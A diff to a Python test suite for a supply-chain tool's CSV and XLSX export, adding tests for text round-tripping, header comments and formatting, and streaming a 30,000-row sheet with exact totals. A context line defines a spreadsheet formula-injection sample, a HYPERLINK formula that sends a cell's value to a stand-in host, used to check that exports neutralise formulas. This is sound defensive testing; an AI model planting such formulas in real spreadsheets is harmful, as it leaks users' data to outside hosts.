@@ -5,14 +5,14 @@ from __future__ import annotations
 import csv
 import io
 import zipfile
-from datetime import date
+from datetime import date, datetime
 from decimal import Decimal
 
 from hypothesis import given
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 
-from supply.core.sheets import Column, Sheet, write_csv, write_xlsx
+from supply.core.sheets import Column, Sheet, total_of, write_csv, write_xlsx
 from supply.core.text import FORMULA_START, csv_text, uncsv_text
 
 HOSTILE = '=HYPERLINK("http://x/?d="&A1,"点击")'
@@ -104,3 +104,46 @@ def test_sheet_names_are_made_acceptable_to_excel_and_unique() -> None:
         "X" * 27 + " (3)",  # Excel compares sheet names without case
         "a_b_c_d_e_f",
     ]
+
+
+def test_any_text_is_read_back_as_written() -> None:
+    # Markup, Excel's own escapes and edge whitespace: the string cell holds exactly the text
+    # (xlsxwriter used to write "<r>…</r>" into the file as rich text).
+    texts = ["<r><t>x</t></r>", "a & b <c>", "_x0041_", " lead", "trail\t", "多行\n文字"]
+    content = write_xlsx([Sheet("表", [Column("名称")], [[t] for t in [*texts, "bell\x07"]])])
+    sheet = load_workbook(io.BytesIO(content))["表"]
+    assert [sheet.cell(r, 1).value for r in range(2, 2 + len(texts))] == texts
+    assert formulas(content) == []
+    # A control character is written as Excel writes it (XML cannot hold it).
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        strings = archive.read("xl/sharedStrings.xml").decode()
+    assert "<t>bell_x0007_</t>" in strings and "<t>_x005F_x0041_</t>" in strings
+
+
+def test_header_notes_fill_widths_and_frozen_header() -> None:
+    columns = [Column("物料编码", note="material code"), Column("数量", "int", note="quantity")]
+    sheet = Sheet("模板", columns, [["TR-400", 3]], header_fill="#DDEBF7", widths={0: 20})
+    book = load_workbook(io.BytesIO(write_xlsx([sheet, table()])))
+    first = book["模板"]
+    assert [first.cell(1, c).comment.text for c in (1, 2)] == ["material code", "quantity"]
+    assert first.cell(1, 1).comment.author == "gridsupply"
+    assert first.cell(1, 1).fill.fgColor.rgb == "FFDDEBF7" and first.cell(1, 1).font.b
+    assert round(first.column_dimensions["A"].width, 2) == 20.71  # Excel's width of 20 digits
+    assert first.freeze_panes == "A2" and first.auto_filter.ref == "A1:B2"
+    assert book["表"].cell(1, 1).fill.fill_type is None  # the other sheet's header: bold only
+
+
+def test_a_long_sheet_is_streamed_whole_with_exact_totals() -> None:
+    # Far more than one chunk of the compressor: every row, and totals to the fen.
+    rows = [[f"行 {i}", i % 7, Decimal(i) / 3, date(2026, 12, 1 + i % 28)] for i in range(30_000)]
+    sheet = table(*rows)
+    content = write_xlsx([sheet])
+    read = load_workbook(io.BytesIO(content), read_only=True, data_only=True)["表"]
+    values = list(read.iter_rows(values_only=True))
+    assert read.max_row == len(values) == 30_002 and values[1][0] == "行 0"
+    assert values[-1][:3] == (
+        "合计 / total (30000 行)",
+        total_of(sheet, 1),
+        float(total_of(sheet, 2)),
+    )
+    assert values[-2][3] == datetime(2026, 12, 1 + 29_999 % 28)
